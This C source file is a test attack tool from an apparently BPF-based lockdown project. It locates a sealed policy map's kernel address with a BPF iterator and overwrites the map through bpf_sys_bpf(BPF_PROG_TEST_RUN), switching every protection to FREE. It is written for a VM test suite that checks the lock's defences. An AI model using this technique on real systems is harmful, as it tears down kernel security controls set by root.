// SPDX-License-Identifier: GPL-2.0
/*
 * ctxwrite.c - `ratchet-ctxwrite`: rewrite a sealed lock's tables map
 * with no fd to it (ctxwrite.bpf.c): a syscall program of root's runs
 * another through bpf_sys_bpf(BPF_PROG_TEST_RUN) with the tables' kernel
 * address as its context. For tests/vm/attacks/rt3-sysbpf-ctx.sh, in a
 * test VM only.
 *
 *   ratchet-ctxwrite save FILE     the tables (as ratchet_snapshot reads them) into FILE
 *   ratchet-ctxwrite free          every read and load kind FREE, and
 *                                  kernel/ftrace_enabled no knob of ratchet's
 *   ratchet-ctxwrite restore FILE  write FILE's bytes back
 *
 * The tables are read and their map id learnt through ratchet's own
 * ratchet_snapshot, by id, as `ratchet status` does. Prints each step;
 * exit 0 done, 1 a step refused, 2 other.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include "ratchet.h"
#include "tables.h"
#include "attack-ctxwrite.skel.h"

static int step(const char *what, int err)
{
	printf("ctxwrite: %s: %s\n", what, err ? strerror(err) : "ok");
	if (!err)
		return 0;
	return err == EPERM || err == EACCES || err == ENOENT ? 1 : 2;
}

/* The kernel address of the value of map @id (iter/bpf_map). */
static int find_addr(struct attack_ctxwrite *s, __u32 id)
{
	const char *what;
	int err;

	s->bss->want = id;
	if ((err = iter_once(s->progs.find_value, &what)))
		return step(what, err);
	printf("ctxwrite: tables map id %u, value at 0x%llx\n", id,
	       (unsigned long long)s->bss->found);
	return s->bss->found ? 0 : step("find the tables' address", ENOENT);
}

/* bpf_sys_bpf(BPF_PROG_TEST_RUN) of ctx_write on the tables' value. */
static int write_tables(__u32 id, const struct ratchet_tables *t)
{
	struct attack_ctxwrite *s = attack_ctxwrite__open_and_load();
	struct {
		__u64 target;
		__u32 prog_fd;
		__s32 ret;
	} a = {};
	/* A syscall program's context is copied back into ctx_in. */
	LIBBPF_OPTS(bpf_test_run_opts, o, .ctx_in = &a,
		    .ctx_size_in = sizeof(a));
	int err;

	if (!s)
		return step("load the syscall programs and the iterator",
			    errno);
	if ((err = find_addr(s, id)))
		return err;
	memcpy(s->bss->newval, t, sizeof(*t));
	a.target = s->bss->found;
	a.prog_fd = bpf_program__fd(s->progs.ctx_write);
	if (bpf_prog_test_run_opts(bpf_program__fd(s->progs.go), &o))
		return step("run the syscall program", errno);
	printf("ctxwrite: bpf_sys_bpf(BPF_PROG_TEST_RUN, ctx_in=0x%llx) "
	       "returned %d\n",
	       (unsigned long long)a.target, a.ret);
	attack_ctxwrite__destroy(s);
	return a.ret ? step("write the tables", -a.ret) : 0;
}

int main(int argc, char **argv)
{
	static struct ratchet_snapshot snap;
	struct ratchet_tables t;
	__u32 id;
	int err;

	if (argc < 2)
		return 2;
	if (snapshot(&snap))
		return step("read the tables through ratchet_snapshot", ENOENT);
	t = snap.tables;
	id = snap.tables_map.id;
	if (!strcmp(argv[1], "save") && argc == 3)
		return step("save the tables", tables_save(&t, argv[2]));
	if (!strcmp(argv[1], "restore") && argc == 3) {
		if ((err = tables_wanted(&t, argv[2])))
			return step("read the saved tables", err);
	} else if (!strcmp(argv[1], "free")) {
		tables_wanted(&t, "free");
	} else {
		return 2;
	}
	if (write_tables(id, &t))
		return 1;
	if (snapshot(&snap))
		return step("read the tables back", ENOENT);
	return step("the sealed tables now hold what was written (read by "
		    "ratchet_snapshot)",
		    memcmp(&snap.tables, &t, sizeof(t)) ? EIO : 0);
}
